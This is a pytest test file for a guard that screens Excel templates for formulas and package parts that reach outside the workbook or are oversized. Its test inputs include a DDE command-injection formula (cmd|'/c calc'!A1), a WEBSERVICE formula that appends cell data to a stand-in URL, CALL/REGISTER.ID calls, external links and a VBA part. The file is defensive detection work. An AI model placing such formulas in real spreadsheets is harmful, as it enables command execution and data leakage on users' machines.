"""Excel tables of another office: formulas that fetch, links to elsewhere, files too large."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

import pytest
from openpyxl import Workbook

from kongchuo_reports.publish.templates.table_guard import called_by, table_faults
from kongchuo_reports.publish.templates.template_check import check_templates

if TYPE_CHECKING:
    from pathlib import Path


def table(folder: Path, name: str = "", content: str = "", formula: str = "=SUM(B1:B3)") -> Path:
    book = Workbook()
    book.worksheets[0]["A1"] = formula
    held = io.BytesIO()
    book.save(held)
    path = folder / "县表.xlsx"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(held.getvalue())
    if name:
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
            package.writestr(name, content)
    return path


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://x/"&A1)', '_xlfn.WEBSERVICE("x")', 'HYPERLINK("http://x","点")', "hyperlink(A1)", "cmd|'/c calc'!A1",
        "[1]表!A1", "'\\\\server\\[a.xlsx]表'!A1", 'FILTERXML(A1,"//b")', 'RTD("x",,"y")', '_xlfn.IMAGE("http://x")',
        'CALL("a","b")', "1+" * 5000, 'REGISTER.ID("a","b")', "DDE(1)", 'SUM(1,WEBSERVICE ("x"))',
    ],
)  # fmt: skip
def test_a_formula_that_fetches_or_runs_something_is_told(formula: str) -> None:
    assert called_by(formula)


@pytest.mark.parametrize(
    "formula",
    ["SUM(B1:B3)", 'IF(A1="http://x","a|b!c","")', 'HYPERLINK("#表2!A1","去")', "表1[[#All],[人数]]", "VLOOKUP(A1,表2!A:B,2,0)",
     "IMAGES(A1)", "RECALL(1)"],
)  # fmt: skip
def test_a_formula_that_only_reckons_is_left_alone(formula: str) -> None:
    assert called_by(formula) == ""


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("xl/worksheets/sheet9.xml", "<x:s xmlns:x='m'><x:f>WEB<!-- a -->SERVICE(1)</x:f></x:s>"),
        (
            "xl/worksheets/sheet9.xml",
            "<s><conditionalFormatting><formula>WEBSERVICE(1)</formula></conditionalFormatting></s>",
        ),
        ("xl/worksheets/sheet9.xml", "<s><dataValidation><formula1>WEBSERVICE(1)</formula1></dataValidation></s>"),
        ("xl/worksheets/sheet9.xml", '<s><mergeCell ref="A1:XFD1048576"/></s>'),
        ("xl/worksheets/sheet9.xml", "<!DOCTYPE x><s/>"),
        ("xl/worksheets/sheet9.xml", "<s>"),
        ("xl/worksheets/_rels/sheet9.xml.rels", '<R><Relationship Target="http://x" TargetMode="External"/></R>'),
        ("xl/externalLinks/externalLink1.xml", "<x/>"),
        ("xl/connections.xml", "<x/>"),
        ("xl/vbaProject.bin", "x"),
        ("xl/worksheets/sheet9.xml", " " * (17 << 20)),
    ],
)
def test_a_table_that_reaches_out_or_is_too_much_is_told_by_the_check(tmp_path: Path, name: str, content: str) -> None:
    assert table_faults(table(tmp_path / "tables", name, content))
    wrong, notes = check_templates(tmp_path)
    assert wrong
    assert notes == []


def test_a_plain_table_is_fine(tmp_path: Path) -> None:
    table(tmp_path / "tables")
    assert check_templates(tmp_path) == ([], ["可用：县表.xlsx"])
    (tmp_path / "tables" / "县表.xlsx").write_bytes(b"no workbook")
    assert check_templates(tmp_path)[0]
